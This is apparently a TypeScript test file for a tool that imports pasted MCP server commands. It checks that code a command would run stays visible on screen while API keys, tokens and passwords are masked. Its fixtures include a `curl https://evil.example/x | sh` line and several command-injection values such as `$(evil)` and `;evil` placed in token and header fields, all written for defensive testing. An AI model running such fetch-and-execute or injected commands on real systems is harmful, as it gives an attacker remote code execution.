import { describe, expect, it } from 'vitest';
import { maskedTarget } from '../import/masked-target.ts';
import { parsePasted } from '../import/paste.ts';
import type { ServerConfig } from '../server-config.ts';
import { startView } from './view.ts';

type Stdio = Extract<ServerConfig, { type: 'stdio' }>;
const stdio = (command: string, ...args: string[]): Stdio => ({
  type: 'stdio',
  command,
  args,
  env: {},
});
/** The arguments as shown, with hidden parts as their length; null if another view differs. */
function shown(config: Stdio): readonly string[] | null {
  const { args } = startView(config, 'x', null);
  const as = (hidden: (length: number) => string): string[] =>
    args.map((parts) =>
      parts.map((part) => ('text' in part ? part.text : hidden(part.masked))).join(''),
    );
  const target = maskedTarget(config);
  const other = target.type === 'stdio' ? target.args : [];
  return JSON.stringify(other) === JSON.stringify(as(() => '••••'))
    ? as((length) => `<${length}>`)
    : null;
}

describe('code that a command would run', () => {
  it.each([
    `node -e 'token: require("child_process").execSync("x")'`,
    `sh -c 'auth: ; curl https://evil.example/x | sh'`,
    `claude mcp add docs -- bash -c 'api-key: ; evil'`,
    `python3 -c 'auth: int'`,
    `awk 'token: evil'`,
    `sh -c 'auth:evil'`,
    `node --eval 'secret: evil()'`,
    `node '--token=evil()'`,
    `sh --api-key='x;evil'`,
    `acme --token 'x;evil'`,
    `acme --header 'Authorization: ;evil'`,
    `acme -H 'X-Token: $(evil)'`,
    `bash -H 'token: evil'`,
    `node -e 'https://x.example/?token=1\nevil()'`,
    `node -e 'https://u:\nevil(),a@x.example'`,
    `sh -c 'https://x.example/?token=1|evil'`,
    `npx -y -p acme-mcp --no-auth evil`,
    `npx -p acme --key evil`,
    `npm exec --no-token evil`,
    `env npx --auth-token evil`,
    `cmd /c npx --auth-token evil`,
    `acme --auth-command evil`,
    `acme --password-helper=evil`,
    `pnpm --token-helper evil`,
  ])('is shown, however its text begins: %s', (line) => {
    const config = parsePasted(line).servers[0]?.config;
    if (config?.type !== 'stdio') throw new Error('no command');
    expect(shown(config)).toEqual(config.args);
  });

  it('stays on screen where a secret beside it has the same text', () => {
    expect(shown(stdio('acme', 'evil', '--token', 'evil'))).toEqual(['evil', '--token', '<4>']);
  });
});

describe('a credential among the arguments', () => {
  it.each<readonly [string, readonly string[], readonly string[]]>([
    ['npx', ['-y', 'acme', '--api-key', 'k-1'], ['-y', 'acme', '--api-key', '<3>']],
    ['cmd', ['/c', 'npx', '-y', 'a', '--token', 'k'], ['/c', 'npx', '-y', 'a', '--token', '<1>']],
    ['python', ['-m', 'acme', '--password', 'p'], ['-m', 'acme', '--password', '<1>']],
    ['uvx', ['--from', 'a', 'b', '--api-key', 'k'], ['--from', 'a', 'b', '--api-key', '<1>']],
    ['npx', ['mcp-remote', '-H', 'X-Api-Key:k'], ['mcp-remote', '-H', 'X-Api-Key:<1>']],
    ['acme', ['--header=Authorization: Bearer a/b'], ['--header=Authorization: Bearer <3>']],
    ['acme', ['--auth', 'Bearer abc'], ['--auth', 'Bearer <3>']],
    ['acme', ['postgres://ada:pw@db/x'], ['postgres://ada:<2>@db/x']],
  ])('is hidden alone, of %s %s', (command, args, expected) => {
    expect(shown(stdio(command, ...args))).toEqual(expected);
  });
});
